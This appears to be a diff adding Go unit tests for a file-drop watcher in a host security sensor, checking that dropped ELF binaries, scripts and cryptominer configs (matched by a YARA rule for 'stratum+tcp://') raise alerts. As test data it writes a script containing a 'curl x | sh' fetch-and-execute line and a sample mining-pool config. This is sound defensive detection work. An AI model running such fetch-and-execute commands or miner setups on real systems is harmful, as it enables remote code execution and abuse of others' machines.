@@ -0,0 +1,108 @@
+package fileintegrity
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/fsnotify/fsnotify"
+	"github.com/sirupsen/logrus"
+
+	"github.com/invisible-tech/autopilot-security-sensor/pkg/collector"
+	"github.com/invisible-tech/autopilot-security-sensor/pkg/yara"
+)
+
+func TestDropWatcher(t *testing.T) {
+	dir := t.TempDir()
+	existing := filepath.Join(dir, "existing.sh")
+	os.WriteFile(existing, []byte("#!/bin/sh\n"), 0o755)
+
+	ch := make(chan collector.SecurityEvent, 4)
+	dw, err := NewDropWatcher(DropperConfig{Paths: []string{dir}, Settle: time.Second, EventChan: ch}, logrus.New())
+	if err != nil {
+		t.Fatalf("NewDropWatcher: %v", err)
+	}
+	defer dw.watcher.Close()
+	dw.watchPaths()
+
+	ctx := context.Background()
+	drop := func(path string, data []byte, mode os.FileMode) {
+		t.Helper()
+		os.WriteFile(path, data, mode)
+		os.Chmod(path, mode)
+		dw.handleFsEvent(fsnotify.Event{Name: path, Op: fsnotify.Create})
+	}
+	settle := func() []collector.SecurityEvent {
+		dw.examineSettled(ctx, time.Now().Add(time.Second))
+		var events []collector.SecurityEvent
+		for len(ch) > 0 {
+			events = append(events, <-ch)
+		}
+		return events
+	}
+
+	elf := filepath.Join(dir, ".x")
+	drop(elf, append([]byte{0x7f, 'E', 'L', 'F'}, "payload"...), 0o644)
+	drop(filepath.Join(dir, "notes.txt"), []byte("hello"), 0o644)
+	dw.handleFsEvent(fsnotify.Event{Name: existing, Op: fsnotify.Chmod})
+	dw.examineSettled(ctx, time.Now())
+	if len(ch) != 0 {
+		t.Fatal("examined before settling")
+	}
+	events := settle()
+	if len(events) != 1 {
+		t.Fatalf("events = %d, want the ELF binary only", len(events))
+	}
+	ev := events[0]
+	if ev.File.Path != elf || ev.Severity != collector.SeverityHigh || ev.File.NewHash == "" ||
+		len(ev.File.Indicators) != 2 || ev.File.Indicators[1] != IndicatorELF || ev.Metadata["file_type"] != FileTypeELF {
+		t.Errorf("event = %+v metadata %v", ev.File, ev.Metadata)
+	}
+
+	// Unchanged content is reported once; a script in a new directory is
+	// found though it was written before the directory was watched.
+	dw.handleFsEvent(fsnotify.Event{Name: elf, Op: fsnotify.Chmod})
+	sub := filepath.Join(dir, "stage")
+	os.Mkdir(sub, 0o755)
+	os.WriteFile(filepath.Join(sub, "run"), []byte("#!/bin/sh\ncurl x | sh\n"), 0o700)
+	dw.handleFsEvent(fsnotify.Event{Name: sub, Op: fsnotify.Create})
+	events = settle()
+	if len(events) != 1 || events[0].File.Path != filepath.Join(sub, "run") ||
+		events[0].Metadata["file_type"] != FileTypeScript || events[0].File.Permissions != "0700" {
+		t.Fatalf("events = %+v", events)
+	}
+}
+
+func TestDropWatcher_Yara(t *testing.T) {
+	dir := t.TempDir()
+	ch := make(chan collector.SecurityEvent, 4)
+	dw, err := NewDropWatcher(DropperConfig{Paths: []string{dir}, Settle: time.Second, EventChan: ch}, logrus.New())
+	if err != nil {
+		t.Fatalf("NewDropWatcher: %v", err)
+	}
+	defer dw.watcher.Close()
+	rules, err := yara.Compile(`rule miner_config { strings: $p = "stratum+tcp://" condition: $p }`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dw.SetYaraRules(rules)
+
+	config := filepath.Join(dir, "config.json")
+	os.WriteFile(config, []byte(`{"url": "stratum+tcp://pool:3333"}`), 0o644)
+	os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("hello"), 0o644)
+	for _, name := range []string{config, filepath.Join(dir, "notes.txt")} {
+		dw.handleFsEvent(fsnotify.Event{Name: name, Op: fsnotify.Create})
+	}
+	dw.examineSettled(context.Background(), time.Now().Add(time.Second))
+	if len(ch) != 1 {
+		t.Fatalf("events = %d, want the matching file only", len(ch))
+	}
+	ev := <-ch
+	if ev.File.Path != config || ev.Severity != collector.SeverityCritical ||
+		len(ev.File.Indicators) != 1 || ev.File.Indicators[0] != IndicatorYaraMatch ||
+		len(ev.File.YaraRules) != 1 || ev.File.YaraRules[0] != "miner_config" {
+		t.Errorf("event = %+v", ev.File)
+	}
+}